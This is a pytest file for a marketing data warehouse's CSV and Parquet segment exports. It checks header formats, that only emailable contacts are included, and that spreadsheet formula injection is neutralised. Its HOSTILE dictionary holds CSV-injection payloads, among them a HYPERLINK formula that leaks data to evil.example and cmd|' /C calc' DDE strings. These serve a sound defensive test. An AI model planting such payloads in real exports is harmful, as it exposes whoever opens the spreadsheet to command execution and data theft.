"""The segment files of the exports (models/exports) on the demo build: import-ready for each tool (exact header
line, delimiter, UTF-8, one row per emailable member), nothing but emailable people (compared with dim_contacts),
and spreadsheet-safe (hostile values written by hand into a copy of the warehouse come out neutralised)."""
from __future__ import annotations

import csv
import shutil
from pathlib import Path

import duckdb
import pytest

from conftest import DEMO_DIR, Warehouse, dbt_vars, run_dbt

# tool folder -> (delimiter, header line, columns of export_segment_members the file's columns hold)
FORMATS = {
    "brevo": (";", "EMAIL;FIRSTNAME;LASTNAME;EXT_ID", ["email", "first_name", "last_name", "contact_id"]),
    "mailchimp": (",", "Email Address,First Name,Last Name,Tags", ["email", "first_name", "last_name", "segment_name"]),
    "segments": (",", "segment_name,contact_id,company_id,customer_type,email,first_name,last_name,company_name,"
                 "job_title,city,region,next_send_at,email_legal_basis",
                 ["segment_name", "contact_id", "company_id", "customer_type", "email", "first_name", "last_name",
                  "company_name", "job_title", "city", "region", "next_send_at", "email_legal_basis"]),
}

# Hand-written hostile values (OWASP CSV injection): each starts with a character a spreadsheet runs as a formula.
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "last_name": "+cmd|' /C calc'!A0",
    "company_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "job_title": "-2+3+cmd|' /C calc'!A0",
    "city": "\t=1+1",
    "region": "\r=1+1",
}
HOSTILE_EMAIL = "=1+1@evil.example"


def read_export(path: Path, delimiter: str) -> tuple[str, list[list[str]]]:
    """The header line as written and the records parsed back by the csv module (UTF-8, strict)."""
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no byte-order mark"
    text = raw.decode("utf-8")
    header = text.split("\n", 1)[0]
    with path.open(newline="", encoding="utf-8") as handle:
        records = list(csv.reader(handle, delimiter=delimiter))
    return header, records[1:]


def export_rows(warehouse: Warehouse, segment: str, columns: list[str]) -> list[list[str]]:
    """export_segment_members rows of a segment as the CSV writes them (null -> empty, timestamps ISO)."""
    select = ", ".join(f"coalesce(cast({column} as varchar), '')" for column in columns)
    return [list(row) for row in warehouse.query(
        f"select {select} from exports.export_segment_members where segment_name = '{segment}'")]


@pytest.fixture(scope="module")
def catalogue(demo_warehouse: Warehouse) -> dict[str, int]:
    return dict(demo_warehouse.query("select segment_name, reachable_count from segments.segment_catalog"))


@pytest.mark.parametrize("tool", sorted(FORMATS))
def test_files_are_import_ready(demo_warehouse: Warehouse, catalogue: dict[str, int], tool: str) -> None:
    """One file per segment, nothing else; the tool's exact header line; every record parses back with the tool's
    delimiter to the header's number of fields and to the rows of the export model."""
    delimiter, header_line, columns = FORMATS[tool]
    folder = demo_warehouse.exports_dir / tool
    assert sorted(path.name for path in folder.iterdir() if path.suffix == ".csv") == sorted(
        f"{segment}.csv" for segment in catalogue)
    for segment, reachable in catalogue.items():
        header, records = read_export(folder / f"{segment}.csv", delimiter)
        assert header == header_line, (tool, segment)
        assert len(records) == reachable, (tool, segment)
        assert all(len(record) == len(columns) for record in records), (tool, segment)
        assert sorted(records) == sorted(export_rows(demo_warehouse, segment, columns)), (tool, segment)
    assert sum(catalogue.values()) > 10_000
    if tool == "mailchimp":
        tags = {record[3] for segment in catalogue for record in read_export(folder / f"{segment}.csv", ",")[1]}
        assert tags == {segment for segment, reachable in catalogue.items() if reachable}


def test_parquet_files_hold_the_csv_rows(demo_warehouse: Warehouse, catalogue: dict[str, int]) -> None:
    folder = demo_warehouse.exports_dir / "segments"
    with duckdb.connect() as connection:
        for segment in catalogue:
            parquet = connection.execute(
                f"select * from read_parquet('{folder / segment}.parquet') order by contact_id").fetchall()
            assert [tuple("" if value is None else str(value) for value in row) for row in parquet] == [
                tuple(record) for record in read_export(folder / f"{segment}.csv", ",")[1]], segment


def test_files_hold_only_emailable_members(demo_warehouse: Warehouse, catalogue: dict[str, int]) -> None:
    """Every emailable member of every segment is in the segment's files, and nobody else: compared with
    dim_contacts.is_emailable and segment_membership, by address (Brevo, Mailchimp) and by contact id."""
    emailable = {email: contact for contact, email in demo_warehouse.query(
        "select contact_id, email from marts.dim_contacts where is_emailable")}
    not_emailable = {row[0] for row in demo_warehouse.query(
        "select email from marts.dim_contacts where not is_emailable and email is not null")}
    assert emailable and not_emailable
    expected = {}
    for segment, contact in demo_warehouse.query(
            "select membership.segment_name, membership.contact_id from segments.segment_membership as membership "
            "inner join marts.dim_contacts as contacts on membership.contact_id = contacts.contact_id "
            "where contacts.is_emailable"):
        expected.setdefault(segment, set()).add(contact)
    for segment in catalogue:
        brevo = read_export(demo_warehouse.exports_dir / "brevo" / f"{segment}.csv", ";")[1]
        mailchimp = read_export(demo_warehouse.exports_dir / "mailchimp" / f"{segment}.csv", ",")[1]
        generic = read_export(demo_warehouse.exports_dir / "segments" / f"{segment}.csv", ",")[1]
        assert {emailable.get(email) for email, *_ in brevo} == expected.get(segment, set()), segment
        assert {ext_id for *_, ext_id in brevo} == expected.get(segment, set()), segment
        assert {emailable.get(email) for email, *_ in mailchimp} == expected.get(segment, set()), segment
        assert {record[1] for record in generic} == expected.get(segment, set()), segment
        assert not {record[0] for record in brevo + mailchimp} & not_emailable, segment


@pytest.fixture(scope="module")
def hostile_exports(demo_warehouse: Warehouse, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """A copy of the demo warehouse where three emailable members of seg_rfm_loyal get the hostile values (one also
    a hostile address), then `dbt run` of the export models only, into a temporary exports folder."""
    folder = tmp_path_factory.mktemp("hostile")
    path, exports_dir = folder / "warehouse.duckdb", folder / "exports"
    shutil.copy(demo_warehouse.path, path)
    with duckdb.connect(str(path)) as connection:
        contacts = [row[0] for row in connection.execute(
            "select contacts.contact_id from segments.segment_membership as membership "
            "inner join marts.dim_contacts as contacts on membership.contact_id = contacts.contact_id "
            "where membership.segment_name = 'seg_rfm_loyal' and contacts.is_emailable "
            "order by contacts.contact_id limit 3").fetchall()]
        assignments = ", ".join(f"{column} = ?" for column in HOSTILE)
        connection.execute(f"update marts.dim_contacts set {assignments} where contact_id in (?, ?, ?)",
                           [*HOSTILE.values(), *contacts])
        connection.execute("update marts.dim_contacts set email = ? where contact_id = ?", [HOSTILE_EMAIL, contacts[0]])
    run_dbt(["run", "--select", "export_segment_members+",
             "--vars", dbt_vars(DEMO_DIR, exports_dir=exports_dir)], env={"SEGMENTS_DUCKDB_PATH": str(path)})
    return {"contacts": contacts, "exports_dir": exports_dir}


def test_hostile_values_come_out_neutralised(hostile_exports: dict) -> None:
    """Each hostile value is written with a single quote in front, and parses back to exactly that (the tab and
    carriage return included): a spreadsheet shows it as text. Checked in the files of all three exports."""
    contacts, folder = hostile_exports["contacts"], hostile_exports["exports_dir"]
    safe = {column: "'" + value for column, value in HOSTILE.items()}
    _, generic = read_export(folder / "segments" / "seg_rfm_loyal.csv", ",")
    by_contact = {record[1]: dict(zip(FORMATS["segments"][2], record)) for record in generic}
    for contact in contacts:
        assert {column: by_contact[contact][column] for column in HOSTILE} == safe
    assert by_contact[contacts[0]]["email"] == "'" + HOSTILE_EMAIL
    _, brevo = read_export(folder / "brevo" / "seg_rfm_loyal.csv", ";")
    brevo_rows = {record[3]: record for record in brevo}
    assert [brevo_rows[contact][1:3] for contact in contacts] == [[safe["first_name"], safe["last_name"]]] * 3
    assert brevo_rows[contacts[0]][0] == "'" + HOSTILE_EMAIL
    _, mailchimp = read_export(folder / "mailchimp" / "seg_rfm_loyal.csv", ",")
    assert sum(record[1:3] == [safe["first_name"], safe["last_name"]] for record in mailchimp) == 3
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for tool, (delimiter, _, _) in FORMATS.items():
        for path in (folder / tool).glob("*.csv"):
            for record in read_export(path, delimiter)[1]:
                assert not any(field.startswith(dangerous) for field in record), (tool, path.name, record)
